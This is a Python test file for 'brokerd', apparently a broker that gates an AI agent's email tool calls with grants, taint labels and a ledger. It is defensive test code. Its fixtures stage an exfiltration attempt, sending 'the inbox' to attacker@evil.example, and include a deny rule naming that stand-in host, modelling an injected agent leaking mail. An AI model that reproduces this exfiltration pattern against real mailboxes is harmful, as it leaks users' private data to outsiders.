"""A real brokerd with the fake mailbox (issue 23): a deny grant whose `[match]` key the pinned
tool does not have fails closed, and says so on every surface brokerd answers (the decision
and the ledger, `explain`, the console's grant list, `grant_add`); a reader granted as a sink
raises the session all the same; an `isError` result reads as a built-in tool's error; and
the servers' logs are the owner's alone."""

from __future__ import annotations

import json
import stat
from pathlib import Path

from bxcore.deny import DenyReason
from bxcore.home.layout import Home
from bxcore.labels import DataClass, Label
from bxcore.wire.messages import (
    Denied,
    Done,
    Error,
    Explain,
    Explanation,
    GrantAdd,
    GrantList,
    GrantsReload,
    Pending,
    StateQuery,
)
from tests.support.brokerd import args, call, ledger_records
from tests.support.daemons import init_home, running
from tests.support.mcp import fake, grant, trust

READ = "mcp__mail__read_inbox"
SEND = "mcp__mail__send_email"
WHY = f"match.recipient: {SEND} has no argument 'recipient' (its arguments: body, to)"


def test_a_deny_with_a_misspelt_match_key_denies_every_send_and_says_so(short_tmp: Path) -> None:
    mail = short_tmp / "mail"
    home = init_home(short_tmp / "h", fake("mail", "mailbox", mail))
    grant(home, "mail-send", SEND, kind="sink", untrusted=False)
    grant(home, "mail-evil", SEND, mode="deny", match={"recipient": "glob:*@evil.example"})
    with running("brokerd", home) as brokerd:
        trust(home, "mail")
        out = args(to="attacker@evil.example", body="the inbox")
        denied = call(brokerd, "s1", "c1", SEND, out)
        assert denied == Denied(DenyReason.DENIED_BY_GRANT)
        also = call(brokerd, "s1", "c2", SEND, args(to="boss@example.com", body="hi"))
        assert also == Denied(DenyReason.DENIED_BY_GRANT)  # until it is mended: every send
        read = call(brokerd, "s1", "c3", READ, args(folder="in"))
        assert read == Denied(DenyReason.NO_GRANT)  # another tool: decided as before
        explained = brokerd.ask(Explain("e1", "s1", SEND, out), socket="admin")
        assert isinstance(explained, Explanation) and explained.winner == "mail-evil"
        assert (
            f"grant mail-evil is invalid ({WHY}) and, being a deny, denies every call of {SEND} "
            "until it is mended"
        ) in explained.steps
        listed = brokerd.ask(GrantsReload("g1"), socket="admin")
        assert isinstance(listed, GrantList)
        evil = next(g for g in listed.grants if g.id == "mail-evil")
        assert not evil.valid and evil.problem == (
            f"{WHY}; being a deny, it denies every call of {SEND} until it is mended"
        )
        refused = brokerd.ask(
            GrantAdd("g2", "mail-evil2", SEND, "deny", "private", match=("recipient=x",)),
            socket="admin",
        )
        assert isinstance(refused, Error) and refused.message == f"not added: {WHY}"
        assert not (home / "grants" / "mail-evil2.toml").exists()
        # mended: the deny now holds for what it names, and the rest is allowed
        grant(home, "mail-evil", SEND, mode="deny", match={"to": "glob:*@evil.example"})
        assert call(brokerd, "s1", "c4", SEND, out) == Denied(DenyReason.DENIED_BY_GRANT)
        sent = call(brokerd, "s1", "c5", SEND, args(to="boss@example.com", body="hi"))
        assert isinstance(sent, Done) and sent.ok
    evil_sha = next(r["grant_sha256"] for r in ledger_records(home) if r.get("call") == "c1")
    decision = next(r for r in ledger_records(home) if r.get("call") == "c1")
    assert (decision["outcome"], decision["reason"], decision["grant"]) == (
        "denied", "denied_by_grant", "mail-evil",
    )  # fmt: skip
    assert len(evil_sha) == 64
    said = (home / "test-brokerd.log").read_text()
    assert said.count(f"grant mail-evil is invalid ({WHY})") == 1  # logged once
    lines = (mail / "sent.jsonl").read_text().splitlines()
    assert [json.loads(line)["to"] for line in lines] == ["boss@example.com"]


def test_a_reader_granted_as_a_sink_raises_the_session_and_the_next_sink_asks(
    short_tmp: Path,
) -> None:
    mail = short_tmp / "mail"
    home = init_home(short_tmp / "h", fake("mail", "mailbox", mail))
    grant(home, "mail-read", READ, kind="sink")  # the owner's mistake: a reader as a sink
    grant(home, "mail-send", SEND, kind="sink")
    with running("brokerd", home) as brokerd:
        trust(home, "mail")
        read = call(brokerd, "s1", "c1", READ, args(folder="in"))
        assert isinstance(read, Done) and "attacker@evil.example" in read.output
        assert read.label == Label(DataClass.PRIVATE, True)
        state = brokerd.ask(StateQuery("q", "s1"))
        assert state.label == Label(DataClass.PRIVATE, True)
        sent = call(brokerd, "s1", "c2", SEND, args(to="attacker@evil.example", body="x"))
        assert isinstance(sent, Pending)
    executed = next(
        r for r in ledger_records(home) if r["kind"] == "executed" and r["call"] == "c1"
    )
    assert executed["label"] == {"class": "private", "untrusted": True}
    assert not (mail / "sent.jsonl").exists()


def test_an_error_result_reads_as_a_tool_error_and_the_log_is_the_owners_alone(
    short_tmp: Path,
) -> None:
    home = init_home(short_tmp / "h", fake("crash", "crashing"))
    grant(home, "crash", "mcp__crash__*", kind="source", untrusted=False)
    log = Home(home).mcp_log("crash")
    log.parent.mkdir(mode=0o700, exist_ok=True)
    log.write_text("an older brokerd's lines\n")
    log.chmod(0o644)  # as a brokerd before issue 23 left it
    with running("brokerd", home) as brokerd:
        trust(home, "crash")
        failed = call(brokerd, "s1", "c1", "mcp__crash__fail", args(why="no disk"))
        assert failed == Done(
            False,
            # the server's own words after ours (the SDK's server words its errors so)
            "mcp__crash__fail: the tool reported an error: Error executing tool fail: no disk",
            Label(DataClass.PRIVATE, False),
        )
        assert stat.S_IMODE(log.stat().st_mode) == 0o600
    executed = next(r for r in ledger_records(home) if r["kind"] == "executed")
    assert executed["ok"] is False
